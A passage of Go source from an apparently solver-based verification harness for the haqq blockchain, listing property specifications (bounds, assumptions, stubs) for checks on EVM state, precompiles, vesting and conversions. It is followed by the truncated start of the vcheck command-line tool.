		Assumptions: []string{"the frame protocol of go-ethereum's Call (Snapshot; transfer; body; RevertToSnapshot on failure) and of opSelfdestruct, restated in the harness", "ledger keeper = what x/evm keeper + bank record, with SetBalance's mint/burn delta", "all operands are concrete after the symbolic choice: exhaustive path enumeration over the bounded program space"},
		Stubs:       []string{"sLedger (statedb.Keeper)"},
	}
	m["C02"] = &PropSpec{
		ID: "C02", Pkgs: []string{"./x/evm/statedb", "./precompiles/staking", "./precompiles/distribution", "./x/evm/keeper", "./precompiles/ics20"},
		Quick: []Inst{sd("VerifC05_StateDB", "ops", "3", "kinds", "tdf"), sd("VerifC05_StateDB", "ops", "4", "kinds", "td", "amts", "1"),
			{Pkg: "precompiles/staking", Fn: "VerifC02_StakingMirror", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/staking", Fn: "VerifC04_RunAtomic", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/distribution", Fn: "VerifC02_DistributionMirror", Params: pm(), EngineReplay: true},
			{Pkg: "x/evm/keeper", Fn: "VerifC02_KeeperFlush", Params: pm()}, {Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{sd("VerifC05_StateDB", "ops", "3", "kinds", "tdf"), sd("VerifC05_StateDB", "ops", "4", "kinds", "tdf", "amts", "1", "addrs", "2"), sd("VerifC05_StateDB", "ops", "4", "kinds", "td", "amts", "1"),
			{Pkg: "precompiles/staking", Fn: "VerifC02_StakingMirror", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/distribution", Fn: "VerifC02_DistributionMirror", Params: pm(), EngineReplay: true},
			{Pkg: "x/evm/keeper", Fn: "VerifC02_KeeperFlush", Params: pm()}, {Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "every program of <= 3 operations from {value transfer, SELFDESTRUCT, nested frame} over 3 accounts, and every program of 4 operations from {transfer, SELFDESTRUCT}: after Commit total supply = sum of surviving balances, never above the initial supply, every balance = before + received - paid; staking precompile delegate through the real StateDB and the real method body: signer -> precompile and signer -> contract -> precompile, with / without attached value, delegator = signer or calling contract, contract-internal transfers before and after the call, all balances and amounts symbolic (< 2^100), final Commit, supply and every balance compared with reference bookkeeping; distribution precompile withdrawDelegatorRewards / claimRewards / withdrawValidatorCommission in the same topologies with the payout going to the named account or to a separate withdraw address; keeper side: the write-back of one transfer or self-destruct (x/evm/keeper SetAccount / SetBalance / DeleteAccount, either order, any balances and value < 2^128, sender account existing or not) lands the exact balances and conserves the supply; ICS-20 transfer in the same topologies (escrow ledger); per-call atomicity of the staking precompile (VerifC04_RunAtomic, as C04 / C05): a call that fails - out of gas at any Cosmos-side write included - keeps no bank debit, so the reverted EVM mirror and the bank stay in step (a kept debit under a reverted mirror is minted back at Commit)",
			"thorough": "additionally 4 operations with frames over 2 accounts (one amount value)",
		},
		Outside:     []string{"staking createValidator and the werc20 / bank precompiles (not decided here)", "a withdrawal with nothing outstanding (the precompile indexes res.Amount[0] of an empty answer: the transaction panics and is rolled back)", "the EVM interpreter itself (operations are issued directly against the StateDB)", "fees (C07)"},
		Assumptions: []string{"as C05", "precompile harness: SetAccount mints / burns the balance difference exactly like x/evm/keeper SetBalance; the staking module moves the delegated coins to the bonded pool in the same ledger; the account of the executing contract is cached before the precompile runs (the EVM fetched its code), the signer's only when it attached value"},
		Stubs:       []string{"sLedger", "c02Bank", "c04Srv (staking message server)", "authz keeper overrides"},
	}
	m["C01"] = &PropSpec{
		ID: "C01", Pkgs: []string{"./x/evm/statedb", "./app/ante/evm", "./x/evm/types", "./x/evm/keeper", "./x/coinomics/keeper", "./app/ante/utils", "./x/feemarket/keeper", "./app"},
		Quick: []Inst{{Pkg: "x/evm/statedb", Fn: "VerifC01_CommitOrder", Params: pm("ops", "2", "kinds", "ts"), EngineReplay: true},
			{Pkg: "app/ante/evm", Fn: "VerifC01_NodeLocalConfig", Params: pm("msgs", "2")}, {Pkg: "x/evm/types", Fn: "VerifC01_TracerConfig", Params: pm()},
			{Pkg: "x/evm/keeper", Fn: "VerifC01_BlockHashNoProcessState", Params: pm("lookups", "1"), EngineReplay: true}, {Pkg: "x/coinomics/keeper", Fn: "VerifC13_Mint", Params: pm()},
			{Pkg: "app/ante/utils", Fn: "VerifC01_ClaimRewardsOrder", Params: pm("delegations", "3"), EngineReplay: true}, {Pkg: "x/feemarket/keeper", Fn: "VerifC01_BaseFeeNoProcessState", Params: pm()}},
		Thorough: []Inst{{Pkg: "x/evm/statedb", Fn: "VerifC01_CommitOrder", Params: pm("ops", "3", "kinds", "ts", "amts", "1", "vals", "2"), EngineReplay: true},
			{Pkg: "app/ante/evm", Fn: "VerifC01_NodeLocalConfig", Params: pm("msgs", "3")}, {Pkg: "x/evm/types", Fn: "VerifC01_TracerConfig", Params: pm()},
			{Pkg: "x/evm/keeper", Fn: "VerifC01_BlockHashNoProcessState", Params: pm("lookups", "2"), EngineReplay: true}, {Pkg: "x/coinomics/keeper", Fn: "VerifC13_Mint", Params: pm()},
			{Pkg: "app/ante/utils", Fn: "VerifC01_ClaimRewardsOrder", Params: pm("delegations", "4"), EngineReplay: true}, {Pkg: "x/feemarket/keeper", Fn: "VerifC01_BaseFeeNoProcessState", Params: pm()}},
		Wiring: []WiringFact{{Kind: "mapranges",
			Callee: "(*github.com/haqq-network/haqq/app.Haqq).BlockedAddrs|(*github.com/haqq-network/haqq/app.Haqq).ModuleAccountAddrs|github.com/haqq-network/haqq/app.GetMaccPerms|(*github.com/haqq-network/haqq/x/evm/statedb.journal).sortedDirties|(github.com/haqq-network/haqq/x/evm/statedb.Storage).SortedKeys|(github.com/haqq-network/haqq/x/evm/keeper.Keeper).GetAvailablePrecompileAddrs|github.com/haqq-network/haqq/ethereum/eip712.sortedJSONKeys|(*github.com/haqq-network/haqq/x/evm/statedb.StateDB).RefreshStorage|github.com/haqq-network/haqq/app/upgrades/v1.7.5.processAccount",
			Why:    "the first three build maps / sets from maps at construction time, the next five sort what they collected before anything uses it (sortedDirties / SortedKeys are explored order by order by VerifC01_CommitOrder; RefreshStorage, added by fix 98ffa7e, collects the addresses, sorts them and reads the keys through SortedKeys), processAccount belongs to the historical v1.7.5 upgrade handler whose results are sorted afterwards (its unsynchronised goroutines are outside this technique, see DESIGN)"}},
		Bounds: map[string]string{
			"quick":    "StateDB.Commit after every program of <= 2 operations (transfers, SSTOREs) over 3 accounts sharing their first 16 address bytes and 2 slots: all iteration orders of the dirty-account and dirty-storage maps explored; the sequence of keeper writes is ascending in (address, key) for each; node-local configuration: the eth gas-consume decorator in DeliverTx mode on <= 2 messages (any gas, prices, base fee, block gas limit) under two arbitrary values of the operator's max-tx-gas-wanted setting gives the same verdict, transaction gas limit and priority (relational check); building the EVM tracer from the node-local evm.tracer option succeeds for every option value and for calls and contract creations; BLOCKHASH (Keeper.GetHashFn, keeper built by the real NewKeeper): a replica that served <= 1 earlier lookup (any of 2 heights, any subset of the historical entries kept at that time) answers a lookup exactly as a freshly started replica over the same consensus state (any subset kept now, present entries answer their header hash, pruned ones the zero hash); node time zone: the engine gives every process-local time value (time.Unix / UnixMilli / Local()) an arbitrary zone offset in [-12h, +14h] as an environment input, and the coinomics mint step (the state-machine code that reads calendar fields) equals the UTC formula for every offset (VerifC13_Mint, as C13); fee path of both ante routes (ClaimStakingRewardsIfNecessary, <= 3 delegations, any rewards / fee / balance): under every iteration order of every Go map the code ranges over, the delegations whose rewards are withdrawn are the shortest store-order prefix covering the shortfall; base fee: computing it for a block, then for any other gas figure, then for the first again gives the same value (no state kept in package-level big.Int constants); coverage guard: no function of the application's own packages ranges over a Go map outside an audited list of 9",
			"thorough": "<= 3 operations; <= 2 earlier BLOCKHASH lookups; <= 4 delegations",
		},
		Outside:     []string{"equality of app hashes of two replicas over block histories (BaseApp, IAVL, all modules)", "goroutine-fed counters (app/tps_counter.go): concurrency", "fixed Begin/EndBlocker ordering and sorted module-account construction in app.go (construction-time facts)"},
		Assumptions: []string{"Go map iteration order modelled as an arbitrary permutation chosen per range statement", "counterexamples are confirmed by concrete re-execution with the same iteration order (a native run cannot fix the order)", "BLOCKHASH harness: tmtypes.HeaderFromProto / Header.Hash replaced by an injective tag of (height, app hash byte); the staking keeper's historical entries are a map stub; sync.Map modelled as a plain map (single-threaded)"},
		Stubs:       []string{"sLedger", "c01SK (historical entries)"},
	}
	ps := func(fn string, kv ...string) Inst { return Inst{Pkg: "precompiles/staking", Fn: fn, Params: pm(kv...), EngineReplay: true} }
	m["C04"] = &PropSpec{
		ID: "C04", Pkgs: []string{"./precompiles/staking", "./precompiles/distribution", "./precompiles/ics20"},
		Quick: []Inst{ps("VerifC04_Identity"), ps("VerifC04_CreateValidatorIdentity"), ps("VerifC04_RunAtomic"), ps("VerifC04_Allowance", "steps", "3"), {Pkg: "precompiles/distribution", Fn: "VerifC04_Distribution", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm("checkSupply", "0"), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20Allowance", Params: pm("steps", "3"), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20Approve", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{{Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20Approve", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20Allowance", Params: pm("steps", "4"), EngineReplay: true}, ps("VerifC04_Identity"), ps("VerifC04_CreateValidatorIdentity"), ps("VerifC04_RunAtomic"), ps("VerifC04_Allowance", "steps", "5"), {Pkg: "precompiles/distribution", Fn: "VerifC04_Distribution", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm("checkSupply", "0"), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "staking precompile delegate / undelegate for every (signer, caller in {signer, contract}, named account in 3 addresses) relationship x grant state {absent, wrong type, limited, unlimited, other message type} x amount < 2^128 x module accepts/refuses; createValidator for every (caller, named account) relationship x grant state {absent, generic grant for MsgCreateValidator, unlimited delegate grant}: it reaches the staking module only when the signer calls directly for its own account; the real Precompile.Run for delegate / undelegate by a contract under a limited grant with the SDK gas meter running out at any of the Cosmos-side writes (or not at all): a failed call leaves no message applied and the grant as it was, a successful one reduces it exactly; sequences of <= 3 operations from {approve(x), approve(unlimited), increase(x), decrease(x), revoke, spend(x) by the contract} with symbolic amounts < 2^200; distribution withdrawDelegatorRewards / claimRewards / withdrawValidatorCommission / setWithdrawAddress for every (caller, named account) relationship; ICS-20 transfer for every (caller, sender) relationship x channel {granted, existing but not granted, absent} x grant state {absent, wrong type, limited, unlimited, limited with an allow list excluding the receiver} x amount < 2^100 x module accepts/refuses, with ibc-go's own TransferAuthorization.Accept; sequences of <= 3 ICS-20 increaseAllowance / decreaseAllowance / spend operations over a grant with two channel allocations, each channel's limit compared with a running model after every step",
			"thorough": "sequences of <= 5 operations",
		},
		Outside:     []string{"staking redelegate / cancelUnbonding / createValidator (same pattern; not harnessed)", "ICS-20 revoke and grants with several denominations or several allocations per approve call", "the ERC-20 precompile's approve/transferFrom (not registered in AvailablePrecompiles)", "expiry of grants (the SDK treats an expired grant as absent: contract of the grant-table stub)"},
		Assumptions: []string{"authz keeper replaced by a grant table (Get/Save/DeleteGrant contract of the SDK keeper)", "staking message server replaced by a recorder that accepts or refuses", "event emission and ABI packing replaced by no-ops", "StakeAuthorization.Accept / NewStakeAuthorization / ValidateBasic are the SDK's own code, executed", "counterexamples confirmed by concrete re-execution in the SSA interpreter (concrete SDK keepers cannot be stubbed natively)"},
		Stubs:       []string{"c04 grant table", "c04Srv", "c04Ledger"},
	}
	m["C16"] = &PropSpec{
		ID: "C16", Pkgs: []string{"./precompiles/staking", "./precompiles/bank", "./precompiles/distribution", "./precompiles/ics20"},
		Quick: []Inst{ps("VerifC04_Identity"), {Pkg: "precompiles/bank", Fn: "VerifC16_Bank", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/distribution", Fn: "VerifC04_Distribution", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm("checkSupply", "0"), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC16_Ics20AliasDenom", Params: pm(), EngineReplay: true}, ps("VerifC16_StakingQueries", "entries", "2"), {Pkg: "precompiles/staking", Fn: "VerifC08_PrecompileCreateValidator", Params: pm(), EngineReplay: true}},
		Thorough: []Inst{ps("VerifC16_StakingQueries", "entries", "3"), ps("VerifC04_Identity"), {Pkg: "precompiles/bank", Fn: "VerifC16_Bank", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/distribution", Fn: "VerifC04_Distribution", Params: pm(), EngineReplay: true},
			{Pkg: "precompiles/ics20", Fn: "VerifC04_Ics20", Params: pm("checkSupply", "0"), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC16_Ics20AliasDenom", Params: pm(), EngineReplay: true}},
		Bounds: map[string]string{
			"quick":    "staking delegate / undelegate: the message handed to the staking module is exactly the native message with the call's fields, exactly once, nothing handed over on failure (all identity / grant combinations of C04); distribution methods: the module is asked exactly once for exactly the named account; ICS-20 transfer: the MsgTransfer handed to the transfer module carries exactly the call's port, channel, token, sender, receiver, timeout and memo; staking read-only delegation / unbondingDelegation (<= 2 entries) / validator: the native query is asked for exactly the call's arguments and every field of an arbitrary native answer appears unchanged in the output; bank precompile balances / totalSupply / supplyOf over 4 denominations with symbolic registration (2^4) and symbolic amounts; ICS-20 transfer of the bond denomination named by a registered ERC20 alias, by a contract that received value in the same transaction: same final bank balances and supply as the native message",
			"thorough": "same",
		},
		Outside:     []string{"the module servers themselves (identical object on both sides, their behaviour cancels)", "ABI byte encoding (go-ethereum reflection)", "staking validators / redelegation(s) and the distribution read-only queries (paginated list converters; not harnessed)", "haqq's ICS-20 wrapper keeper (ERC-20 auto-conversion before the transfer) is behind the overridden Transfer"},
		Assumptions: []string{"as C04; erc20 keeper's GetCoinAddress / GetERC20Map / GetTokenPair replaced by a registry table; bank keeper stub iterates in denomination order"},
		Stubs:       []string{"c16Bank", "c16 registry"},
	}
	ek := func(fn string) Inst { return Inst{Pkg: "x/erc20/keeper", Fn: fn, Params: pm(), EngineReplay: true} }
	c10 := []Inst{ek("VerifC10_ConvertCoin"), ek("VerifC10_ConvertERC20"), ek("VerifC10_Adversarial"), ek("VerifC10_Hook"), ek("VerifC10_HookUntrustedLog"), ek("VerifC10_OnRecvPacket"), {Pkg: "x/bank/keeper", Fn: "VerifC10_BankSendWrapper", Params: pm(), EngineReplay: true}, {Pkg: "x/evm/statedb", Fn: "VerifC10_NestedWriteSurvivesCommit", Params: pm(), EngineReplay: true}, {Pkg: "precompiles/ics20", Fn: "VerifC10_Ics20NestedConversion", Params: pm(), EngineReplay: true}}
	m["C10"] = &PropSpec{
		ID: "C10", Pkgs: []string{"./x/erc20/keeper", "./x/bank/keeper", "./x/evm/statedb", "./precompiles/ics20"}, Quick: c10, Thorough: c10,
		Bounds: map[string]string{
			"quick":    "one conversion from an arbitrary fully backed state of one pair (coin-origin and ERC20-origin), amounts and balances < 2^100: MsgConvertCoin, MsgConvertERC20 against the honest contract ledger; both messages against an adversarial contract (every call: arbitrary revert / return value / reported balance / Approval log); the EVM hook over receipts of <= 2 logs (registered / unregistered contract x Transfer / Approval / unknown event x recipient module / other x amount); the hook against a registered contract that emits an unbacked Transfer log; the IBC receive middleware OnRecvPacket after the vouchers were credited (honest token, possibly paused; module enabled or not; any received amount): a success acknowledgement is returned only over a consistent, fully backed state; bank MsgSend wrapper (subUnlockedERC20Tokens) against a token that reports arbitrary balances, returns true / false from transfer and may emit an Approval: for a foreign (ERC20-origin) token the send succeeds only if the receiver was credited exactly the amount, transfer returned true and no Approval was emitted; conversion nested inside an EVM transaction (ICS-20 precompile -> automatic ERC20 conversion): a storage slot written by the outer execution, flushed by the precompile and then written by the nested execution through the keeper ends the transaction with the nested value unless the outer execution writes it again (4 values per write, real StateDB); the real ICS-20 Precompile.Run around a transfer whose wrapped keeper converts 400 of the calling contract's 1000 tokens (or none) in the context it is given, the contract reading / burning its own tokens before and after the call, the module accepting or refusing: final token balance = total supply = 1000 - burnt - converted <= escrowed coins",
			"thorough": "same",
		},
		Outside:     []string{"the Solidity bytecode of ERC20MinterBurnerDecimals (its ledger semantics are the stub)", "the acknowledgement / timeout IBC callbacks and pair toggles (they end in ConvertCoin / ConvertERC20, decided here); packet JSON decoding and bech32 re-prefixing on receive", "sequences of conversions (each step is proved from an arbitrary backed state: inductive)"},
		Assumptions: []string{"abi.ABI Pack / Unpack / UnpackIntoInterface / EventByID replaced by passing Go values", "EVM keeper (interface) = token contract stub; bank keeper = ledger stub", "counterexamples confirmed by concrete re-execution in the SSA interpreter"},
		Stubs:       []string{"c10EVM (token contract: honest ledger / adversarial)", "c10Bank", "c10AK"},
	}
	// ---- instances added in round 7 (appended to both tiers; bounds text appended to the quick / thorough descriptions)
	add := func(id string, pkgs []string, bound string, in ...Inst) {
		sp := m[id]
		sp.Quick = append(append([]Inst{}, sp.Quick...), in...)
		sp.Thorough = append(append([]Inst{}, sp.Thorough...), in...)
		for _, p := range pkgs {
			has := false
			for _, q := range sp.Pkgs {
				has = has || q == p
			}
			if !has {
				sp.Pkgs = append(sp.Pkgs, p)
			}
		}
		for _, tier := range []string{"quick", "thorough"} {
			if t := sp.Bounds[tier]; t != "same" && t != "" {
				sp.Bounds[tier] = t + "; " + bound
			}
		}
	}
	er := func(pkg, fn string, kv ...string) Inst { return Inst{Pkg: pkg, Fn: fn, Params: pm(kv...), EngineReplay: true} }
	nr := func(pkg, fn string, kv ...string) Inst { return Inst{Pkg: pkg, Fn: fn, Params: pm(kv...)} }
	add("C01", []string{"./x/evm/keeper"}, "GetCode of the real EVM keeper after nothing / a read on another branch / a branch that stored and read the code and was discarded / a branch that deleted it: the committed code is returned and the store is read exactly once (charged) whatever the process loaded before",
		er("x/evm/keeper", "VerifC01_GetCodeNoProcessState"))
	add("C02", nil, "StateDB programs with a contract creation onto a pre-funded address (CreateAccount carries the balance over) inside frames that may revert, 4 operations, 2 addresses",
		sd("VerifC05_StateDB", "ops", "4", "kinds", "tnf", "addrs", "2", "amts", "1"))
	add("C05", []string{"./precompiles/ics20"}, "the same creation programs; the real ICS-20 Precompile.Run under a limited grant with the module refusing, the amount exceeding the limit (limits 1..3, amounts 1..4) or the SDK gas meter running out at the grant update: a failed call leaves escrow and grant untouched",
		sd("VerifC05_StateDB", "ops", "4", "kinds", "tnf", "addrs", "2", "amts", "1"), er("precompiles/ics20", "VerifC05_Ics20RunAtomic"))
	add("C04", nil, "the real ICS-20 Precompile.Run under a limited grant (limits 1..3, amounts 1..4), module refusing / gas running out at the grant update: success escrows exactly the amount and reduces the grant by it, failure changes nothing",
		er("precompiles/ics20", "VerifC05_Ics20RunAtomic"))
	add("C03", nil, "Ethereum route: the unsigned From field (empty / the signer / somebody else) x execution mode (deliver / check / recheck): the basic validation refuses a filled-in From outside recheck, the signature verification leaves From = recovered signer",
		nr("app/ante/evm", "VerifC03_FromIsTheRecoveredSigner"))
	add("C06", nil, "router: first option's type URL in 7 spellings of each of the three known names (exact, host prefix, path prefix, double slash, no slash, trailing slash, upper case), optional second option: only the exact spelling builds a route (the right one), everything else is ErrUnknownExtensionOptions",
		er("app/ante", "VerifC06_RouterExactTypeURL"))
	add("C07", nil, "the Cosmos route never carries an Ethereum message, also not inside authz exec trees placed after ordinary messages (the C06 forest harness; an Ethereum message executed without the Ethereum ante chain pays no up-front fee and still gets the refund)",
		an("depth", "2", "width", "2", "top", "2"))
	add("C08", nil, "a schedule applied to an existing plain or vesting account tracks as delegated exactly that account's own bonded + unbonding stake (account and funder stakes < 2^100 arbitrary); MsgConvertVestingAccount succeeds only when the lockup schedule holds nothing and nothing is unvested, whatever is delegated (2+2 periods)",
		vk("VerifC08_ScheduleTracksOwnStake"), vk("VerifC08_ConvertBackKeepsLockup"))
	add("C09", nil, "CoinEq over two denominations (absent = 0) holds exactly for equal amounts; an account over two denominations that passes Validate has both schedules adding up to the original grant per denomination; message period lengths up to 2^62: an accepted message's end time fits an int64; MsgConvertVestingAccount as under C08",
		vt("VerifC09_CoinEq"), vt("VerifC09_ValidateTotals"), vk("VerifC08_ConvertBackKeepsLockup"))
	add("C10", nil, "a token slot written in an outer frame, then one or two inner frames writing slots of the same contract and reverting: the outer write is persisted by the final Commit, nothing of the inner frames is",
		er("x/evm/statedb", "VerifC10_WriteSurvivesInnerRevert"))
	add("C11", []string{"./x/vesting/keeper"}, "MsgConvertVestingAccount on an arbitrary valid account (2+2 periods, arbitrary tracked delegations): accepted only when the lockup schedule holds nothing back (redeemed coins keep their lock although staked)",
		vk("VerifC08_ConvertBackKeepsLockup"))
	add("C12", nil, "all accounts 32-byte addresses sharing their first 20 bytes (longaddr=2)",
		dk("VerifC12_Transfer", "accounts", "2", "longaddr", "2"), dk("VerifC12_Fund", "accounts", "2", "longaddr", "2"))
	add("C13", nil, "parameters admitted by the running chain's door (the validator registered per key in ParamSetPairs, what x/params runs on a parameter change) instead of Params.Validate",
		ck("VerifC13_ParamsAdmitMint", "door", "1"))
	add("C16", []string{"./x/erc20/keeper"}, "GetCoinAddress for a plain coin / an IBC voucher / malformed voucher names, registered or not: a registered denomination is reported under its pair's address and GetTokenDenom resolves that address back; an unregistered voucher under its hash-derived address",
		nr("x/erc20/keeper", "VerifC16_CoinAddressAgreesWithRegistry"))
	add("C17", []string{"./x/evm/keeper"}, "ApplyTransaction with post-processing hooks set (failing or not), VM failing or not, after earlier messages of the same transaction used an arbitrary amount of gas: the transient running total grows by exactly this message's gas",
		er("x/evm/keeper", "VerifC05_ApplyTransaction"))
	add("C18", []string{"./app/ante/evm"}, "the Ethereum vesting decorator over 1-2 messages (legacy / access-list / dynamic-fee) of a vesting account leaves every message's value as signed",
		nr("app/ante/evm", "VerifC08_EthAnte", "msgs", "2"))
	add("C19", []string{"./x/epochs"}, "ucdao ledger over 3 denominations (more than one scaled page); epochs: one or two epochs, started or not, arbitrary epoch numbers / start heights / start times, exported at height H and imported at H+1 after an arbitrary downtime",
		er("x/ucdao/keeper", "VerifC19_Ucdao", "accounts", "2", "denoms", "3"), nr("x/epochs", "VerifC19_Epochs"))
	// ---- round 8
	add("C09", []string{"./x/liquidvesting/types"}, "liquid-vesting split of a two-denomination schedule (the helper that rewrites a vesting account's periods on liquidation): every denomination keeps its amounts",
		lt("VerifC11_Split", "n", "2", "denoms", "2"))
	add("C11", []string{"./x/liquidvesting"}, "liquid vesting genesis: the denom counter and every stored denom survive export/import for any subset of ids present (a rewound counter would hand out the id of a live denom again)",
		nr("x/liquidvesting", "VerifC19_Liquidvesting", "denoms", "2", "periods", "2"))
	add("C17", []string{"./x/feemarket"}, "fee market genesis: the stored gas figure of the last block survives export/import unchanged (it is the limited figure already; the first base fee after a restart is computed from it)",
		nr("x/feemarket", "VerifC19_Feemarket"))
	add("C12", nil, "genesis import of a ledger over 2 accounts x 2 denominations with or without the optional total_balance field: the recorded total is the sum of the holders",
		er("x/ucdao/keeper", "VerifC12_GenesisDerivesTotal"))
	add("C02", []string{"./app"}, "the application's blocked-address list contains every available precompile address under the chain's address prefix (value attached to a direct precompile call is refused, so the signer is never journal-dirty around unmirrored payouts)",
		nr("app", "VerifC02_PrecompilesBlocked"))
	add("C01", []string{"./x/vesting/keeper"}, "the start time stored by ApplyVestingSchedule (new account / conversion / merge) is a UTC value, never one in the node's zone (it is rendered into events)",
		vk("VerifC01_StoredTimesAreUTC"))
	add("C08", []string{"./x/liquidvesting/keeper"}, "MsgLiquidate from a fully vested account whose grant also holds a second denomination: original vesting and both schedules keep that denomination, the account stays valid (a dropped denomination makes LockedCoins fail open)",
		lk("VerifC11_LiquidateStep", "periods", "2", "otherDenom", "1"))
	add("C09", []string{"./x/liquidvesting/keeper"}, "the same liquidation step (schedules of the remaining account still add up per denomination)",
		lk("VerifC11_LiquidateStep", "periods", "2", "otherDenom", "1"))
	add("C11", nil, "liquidation step with a second denomination in the grant",
		lk("VerifC11_LiquidateStep", "periods", "2", "otherDenom", "1"))
	add("C03", []string{"./crypto/ethsecp256k1"}, "PubKey.VerifySignature over the four things a signature can cover (sign bytes, current EIP-712 rendering, legacy rendering, something else) x each decoder accepting or refusing the document: a document the current decoder refuses is never accepted through the legacy layout",
		er("crypto/ethsecp256k1", "VerifC03_Eip712FallbackOrder"))
	add("C06", []string{"./x/evm/types"}, "MsgEthereumTx.GetSigners for the three transaction types with the unsigned From field empty / the signer / another account: the one signer is the recovered account (what gov, authz and interchain accounts use to decide authorship outside any ante handler)",
		er("x/evm/types", "VerifC06_SignersIgnoreFromField"))
	add("C03", []string{"./x/evm/types"}, "GetSigners of an Ethereum message ignores the unsigned From field",
		er("x/evm/types", "VerifC06_SignersIgnoreFromField"))
	add("C10", []string{"./x/erc20"}, "IBC middleware OnTimeoutPacket / OnAcknowledgementPacket with the ICS-20 refund and the keeper's re-conversion each failing or not: the callback returns an error exactly when one of them fails",
		er("x/erc20", "VerifC10_IbcCallbacksPropagateFailure"))
	add("C07", nil, "the real EVMConfig against Keeper.GetBaseFee for any base fee, height, activation height and no-base-fee flag: the base fee execution refunds with equals the one the ante handler charged with",
		er("x/evm/keeper", "VerifC07_ConfigBaseFeeIsTheAnteBaseFee"))
	add("C16", nil, "the precompile's delegation query against the real native Query/Delegation over the same keeper state for five (tokens, total shares, shares) states of exact and slashed validators, delegation present or not",
		ps("VerifC16_DelegationAfterSlash"))
	add("C14", nil, "the wrapped bank Query/AllBalances over two denominations, each with or without an (enabled or disabled) token pair, arbitrary native and token balances: a valid coin set with native + tokens per denomination",
		er("x/bank/keeper", "VerifC14_AllBalancesQuery"))
	add("C18", []string{"./rpc/backend"}, "the JSON-RPC block unwrap (EthMsgsFromTendermintBlock) over 1-2 envelopes of 1-3 messages each (the three transaction types, possibly mixed with another message): every wrapped transaction is returned, in order, with its own hash recorded",
		er("rpc/backend", "VerifC18_BlockUnwrapsEveryMessage"))
	// ---- thorough-only deeper instances of round 7/8 harnesses
	deep := func(id string, bound string, in ...Inst) {
		sp := m[id]
		sp.Thorough = append(append([]Inst{}, sp.Thorough...), in...)
		if t := sp.Bounds["thorough"]; t != "same" && t != "" {
			sp.Bounds["thorough"] = t + "; " + bound
		}
	}
	deep("C12", "three 32-byte accounts sharing their first 20 bytes", dk("VerifC12_Transfer", "accounts", "3", "longaddr", "2"))
	deep("C02", "creation programs of 5 operations", sd("VerifC05_StateDB", "ops", "5", "kinds", "tnf", "addrs", "2", "amts", "1"))
	deep("C05", "creation programs of 5 operations", sd("VerifC05_StateDB", "ops", "5", "kinds", "tnf", "addrs", "2", "amts", "1"))
	deep("C09", "period lists of length 6 (read / monotone); message validation with 3 lockup and 3 vesting periods; liquid-vesting split of 5 periods (1 denomination) and 3 periods (2 denominations)",
		vt("VerifC09_Read", "n", "6"), vt("VerifC09_Mono", "n", "6"), vt("VerifC09_MessagePeriods", "lock", "3", "vest", "3"),
		lt("VerifC11_Split", "n", "5"), lt("VerifC11_Split", "n", "3", "denoms", "2"))
	deep("C12", "funding over 4 accounts; transfers between 3 accounts over prefix denominations",
		dk("VerifC12_Fund", "accounts", "4"), dk("VerifC12_Transfer", "accounts", "3", "prefix", "1"))
	deep("C06", "extension-option lists of up to 5 entries on the router",
		Inst{Pkg: "app/ante", Fn: "VerifC06_ExtensionOptions", Params: pm("max", "5")})
	deep("C18", "the Ethereum vesting decorator over 3 messages", nr("app/ante/evm", "VerifC08_EthAnte", "msgs", "3"))
	deep("C08", "the Ethereum vesting decorator over 3 messages of a vesting account", nr("app/ante/evm", "VerifC08_EthAnte", "msgs", "3"))
	deep("C19", "liquid vesting genesis with 3 denoms of 4 periods each", nr("x/liquidvesting", "VerifC19_Liquidvesting", "denoms", "3", "periods", "4"))
	deep("C19", "ucdao ledger over 3 accounts x 3 denominations", er("x/ucdao/keeper", "VerifC19_Ucdao", "accounts", "3", "denoms", "3"))
	return m
}
