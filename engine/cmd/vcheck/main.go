// vcheck: solver-based checking of the real haqq code (see /verif/DESIGN.md).
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"verif/engine/gosym"
)

type multi []string

func (m *multi) String() string     { return strings.Join(*m, ",") }
func (m *multi) Set(s string) error { *m = append(*m, s); return nil }

func main() {
	var (
		repo     = flag.String("repo", "/repo", "repository root")
		verif    = flag.String("verif", "/verif", "verif root")
		property = flag.String("property", "", "property id (C01..C20)")
		tier     = flag.String("tier", "", "quick|thorough (default from VERIF_TIER or quick)")
		pkg      = flag.String("pkg", "", "dev: package (relative to the module) holding the harness")
		fn       = flag.String("fn", "", "dev: harness function")
		workers  = flag.Int("workers", 16, "parallel path workers")
		solver   = flag.String("solver", "z3-new", "primary solver: z3-new|z3|cvc5")
		timeout  = flag.Int("timeout", 0, "per query timeout ms (default 60000 quick / 300000 thorough)")
		dump     = flag.String("dump", "", "dev: directory for SMT dumps")
		replay   = flag.String("replay", "", "replay a counterexample file natively")
		only     = flag.String("only", "", "run only harness instances whose name contains this")
		noReplay = flag.Bool("noreplay", false, "dev: do not replay counterexamples natively")
		selftest = flag.Bool("selftest", false, "run the translator validation only")
		mapRange = flag.String("mapranges", "", "dev: list the repository's functions that range over a Go map in the given packages (comma separated ./patterns)")
		params   multi
	)
	flag.Var(&params, "p", "dev: harness parameter k=v")
	flag.Parse()
	if *tier == "" {
		*tier = os.Getenv("VERIF_TIER")
	}
	if *tier == "" {
		*tier = "quick"
	}
	if *timeout == 0 {
		*timeout = 60000
